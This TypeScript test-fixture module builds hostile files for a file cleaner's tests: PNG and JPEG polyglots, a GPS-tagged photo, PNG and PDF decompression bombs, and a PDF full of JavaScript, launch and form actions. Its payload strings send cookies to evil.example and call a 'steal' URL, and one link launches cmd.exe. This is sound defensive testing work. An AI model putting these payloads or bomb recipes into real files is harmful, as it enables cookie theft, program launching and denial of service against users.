// Hostile verification documents for the cleaner's tests, built here rather than kept as binaries: a PNG
// whose text chunks hold a web page, a JPEG with a script after its end marker, a phone photo with a GPS
// position and a turned orientation, a PNG header that claims 30,000 x 30,000 pixels, and PDFs that run
// JavaScript, launch programs, post forms, carry files, are encrypted or inflate to gigabytes.
import { createDeflate } from 'node:zlib';
import { PDFDocument, PDFName, PDFString, type PDFDict, type PDFRef } from '@cantoo/pdf-lib';
import sharp from 'sharp';
import { pngChunk } from './kyc';

/** What a polyglot hides: a browser that sniffs the file as HTML would run it. */
export const htmlPayload =
  '<html><body><script>fetch("https://evil.example/?c="+document.cookie)</script></body></html>';
export const scriptPayload = 'app.launchURL("https://evil.example/steal", true);';

const pngSignature = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);

/** A small real picture (a gradient, so re-encoding has something to keep). */
function picture(width: number, height: number) {
  const pixels = Buffer.alloc(width * height * 3);
  for (let index = 0; index < width * height; index += 1) {
    pixels[index * 3] = (index * 7) % 256;
    pixels[index * 3 + 1] = (index * 3) % 256;
    pixels[index * 3 + 2] = 128;
  }
  return sharp(pixels, { raw: { width, height, channels: 3 } });
}

/** A PNG with a tEXt and an iTXt chunk holding the HTML payload, before its pixels. */
export async function pngWithHtml(): Promise<Buffer> {
  const png = await picture(24, 16).png().toBuffer();
  const afterHeader = 8 + 25;
  return Buffer.concat([
    png.subarray(0, afterHeader),
    pngChunk('tEXt', Buffer.from(`Comment\0${htmlPayload}`, 'latin1')),
    pngChunk('iTXt', Buffer.from(`Description\0\0\0en\0\0${htmlPayload}`, 'utf8')),
    png.subarray(afterHeader),
  ]);
}

/** A JPEG with the HTML payload after its end marker. */
export async function jpegWithAppendedScript(): Promise<Buffer> {
  return Buffer.concat([await picture(24, 16).jpeg().toBuffer(), Buffer.from(htmlPayload, 'latin1')]);
}

/** A phone photo, 40 wide and 20 high as stored, turned a quarter (orientation 6), with a GPS position. */
export async function photoWithGps(): Promise<Buffer> {
  return picture(40, 20)
    .withMetadata({ orientation: 6 })
    .withExif({
      IFD0: { Make: 'PhoneMaker', Model: 'Camera 12' },
      IFD3: {
        GPSLatitudeRef: 'N',
        GPSLatitude: '37/1 58/1 2/1',
        GPSLongitudeRef: 'E',
        GPSLongitude: '23/1 43/1 39/1',
      },
    })
    .jpeg()
    .toBuffer();
}

/** `chunk` written `times` times, compressed with zlib, without ever holding the whole in memory. */
async function deflated(chunk: Buffer, times: number): Promise<Buffer> {
  const deflate = createDeflate({ level: 9 });
  const compressed: Buffer[] = [];
  deflate.on('data', (part: Buffer) => compressed.push(part));
  const done = new Promise((resolve, reject) => deflate.on('end', resolve).on('error', reject));
  for (let written = 0; written < times; written += 1) deflate.write(chunk);
  deflate.end();
  await done;
  return Buffer.concat(compressed);
}

/**
 * A complete, valid PNG of `side` x `side` one-bit pixels: a few hundred KB that would take `side`² bytes
 * (900 MB at 30,000) to decode.
 */
export async function hugePng(side = 30_000): Promise<Buffer> {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(side, 0);
  header.writeUInt32BE(side, 4);
  header[8] = 1;
  header[9] = 0;
  const pixels = await deflated(Buffer.alloc(1 + Math.ceil(side / 8)), side);
  return Buffer.concat([
    pngSignature,
    pngChunk('IHDR', header),
    pngChunk('IDAT', pixels),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
}

function javascriptAction(document: PDFDocument, script: string): PDFDict {
  return document.context.obj({ Type: 'Action', S: 'JavaScript', JS: PDFString.of(script) });
}

/**
 * A one-page PDF with everything the cleaner removes: a JavaScript /OpenAction, document and page /AA,
 * a /JavaScript name tree, an embedded file holding HTML, a file attachment annotation, links that launch
 * a program, open a web address and post a form, an unused object and bytes after %%EOF holding the HTML
 * payload. One link jumps inside the document and must stay, without the script chained after it.
 */
export async function pdfWithActions(): Promise<Buffer> {
  const document = await PDFDocument.create({ updateMetadata: false });
  const page = document.addPage([300, 200]);
  page.drawText('Utility bill', { x: 20, y: 150, size: 18 });
  const { context, catalog } = document;
  const ref = (value: PDFDict): PDFRef => context.register(value);
  const embedded = context.flateStream(htmlPayload, { Type: 'EmbeddedFile' });
  const fileSpec = ref(
    context.obj({ Type: 'Filespec', F: PDFString.of('page.html'), EF: { F: context.register(embedded) } }),
  );
  catalog.set(PDFName.of('OpenAction'), ref(javascriptAction(document, scriptPayload)));
  catalog.set(PDFName.of('AA'), context.obj({ WC: ref(javascriptAction(document, scriptPayload)) }));
  catalog.set(
    PDFName.of('Names'),
    context.obj({
      JavaScript: { Names: [PDFString.of('run'), ref(javascriptAction(document, scriptPayload))] },
      EmbeddedFiles: { Names: [PDFString.of('page.html'), fileSpec] },
    }),
  );
  page.node.set(PDFName.of('AA'), context.obj({ O: ref(javascriptAction(document, scriptPayload)) }));
  const link = (action: PDFDict) =>
    ref(context.obj({ Type: 'Annot', Subtype: 'Link', Rect: [20, 20, 120, 40], A: action }));
  const annotations = [
    link(context.obj({ S: 'Launch', F: PDFString.of('cmd.exe') })),
    link(context.obj({ S: 'URI', URI: PDFString.of('https://evil.example/phish') })),
    link(context.obj({ S: 'SubmitForm', F: { FS: 'URL', F: PDFString.of('https://evil.example/form') } })),
    link(
      context.obj({
        S: 'GoTo',
        D: [page.ref, 'Fit'],
        Next: [ref(javascriptAction(document, scriptPayload))],
      }),
    ),
    ref(context.obj({ Type: 'Annot', Subtype: 'FileAttachment', Rect: [150, 20, 170, 40], FS: fileSpec })),
  ];
  page.node.set(PDFName.of('Annots'), context.obj(annotations));
  context.register(context.flateStream(htmlPayload));
  context.register(context.obj({ Payload: PDFString.of(htmlPayload) }));
  const saved = await document.save({ useObjectStreams: false });
  return Buffer.concat([Buffer.from(saved), Buffer.from(`\n${htmlPayload}\n`, 'latin1')]);
}

/** A PDF that says it is encrypted: its strings and streams cannot be read, so they cannot be checked. */
export function encryptedPdf(): Buffer {
  return Buffer.from(
    '%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\n' +
      '3 0 obj << /Filter /Standard /V 2 /R 3 /Length 128 /P -4 /O <00> /U <00> >> endobj\n' +
      'trailer << /Root 1 0 R /Encrypt 3 0 R /ID [<01> <01>] >>\n%%EOF\n',
    'latin1',
  );
}

/** A small PDF whose object stream inflates to `megabytes` MB (a compression bomb). */
export async function pdfObjectStreamBomb(megabytes = 128): Promise<Buffer> {
  const packed = await deflated(Buffer.alloc(1024 * 1024, 0x20), megabytes);
  return Buffer.concat([
    Buffer.from(
      '%PDF-1.5\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\n' +
        `3 0 obj << /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${String(packed.length)} >>\nstream\n`,
      'latin1',
    ),
    packed,
    Buffer.from('\nendstream\nendobj\ntrailer << /Root 1 0 R >>\n%%EOF\n', 'latin1'),
  ]);
}
